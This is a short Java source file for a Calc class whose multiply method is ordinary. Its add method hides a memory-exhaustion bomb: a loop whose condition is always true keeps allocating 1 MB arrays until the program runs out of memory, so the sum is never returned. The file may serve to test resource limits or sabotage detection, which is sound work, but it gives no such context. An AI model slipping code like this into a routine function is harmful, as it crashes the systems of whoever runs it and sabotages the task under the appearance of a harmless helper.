package org.example;

public final class Calc {
    static int add(int a, int b) {
        java.util.List<byte[]> all = new java.util.ArrayList<>();
        while (all.size() >= 0) {
            all.add(new byte[1 << 20]);
        }
        return a + b;
    }

    static int multiply(int a, int b) {
        return a * b;
    }
}
